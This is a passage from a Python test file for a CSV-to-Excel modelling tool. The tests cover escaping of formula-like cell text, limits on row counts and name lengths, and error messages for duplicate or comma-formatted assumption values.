    assert [as_excel_text(text) for text in ("=1+1", "+1", "-2", "@x", "note", 1.5, None)] == [
        "'=1+1", "'+1", "'-2", "'@x", "note", 1.5, None]


def test_a_data_file_of_more_than_5000_rows_is_refused(data):
    """5,001 company rows are refused at the row past the limit (each would be modelled)."""
    rows = rows_of(data / "companies.csv")
    template = rows[1]
    extra = [[f"Producer {n}", "", *template[2:]] for n in range(5_001 - (len(rows) - 1))]
    write_rows(data / "companies.csv", rows + extra)
    assert load_error(data) == ("companies.csv, row 5002: more than 5,000 rows; a data file holds at "
                                "most 5,000")


def test_a_name_longer_than_100_characters_is_refused(data):
    """A 101-character company name is refused (names are quoted inside formulas)."""
    name = "N" * 101
    set_cell(data, "companies.csv", 2, "company", name)
    assert load_error(data) == (f'companies.csv, row 2, column company: company "{"N" * 57}..." has '
                                "101 characters; a name has at most 100")


def test_check_reads_the_assumptions_sheet_with_the_same_parser():
    """check reads the workbook's Assumptions rows with the parser the functions use: a repeated
    input and a decimal comma are named by their cells."""
    from xl_negcoke.errors import AssumptionError
    from xl_negcoke.workbook.check import _workbook_model

    with pytest.raises(AssumptionError) as caught:
        _workbook_model(None, [("Assumptions!A40", "high.coal_price_ratio", 0.5),
                               ("Assumptions!A45", "HIGH.coal_price_ratio", 0.6)])
    assert str(caught.value) == ("Assumptions!A45: key HIGH.coal_price_ratio is the same input as key "
                                 "high.coal_price_ratio in Assumptions!A40; keep one of the two rows")
    with pytest.raises(AssumptionError) as caught:
        _workbook_model(None, [("Assumptions!A6", "coke_per_anode_t", "1,6")])
    assert str(caught.value) == ("Assumptions!A6: value '1,6' for key coke_per_anode_t is not a number "
                                 "(commas are refused: a thousands separator and a decimal comma look "
                                 f"alike); {VALID_NUMBER}")
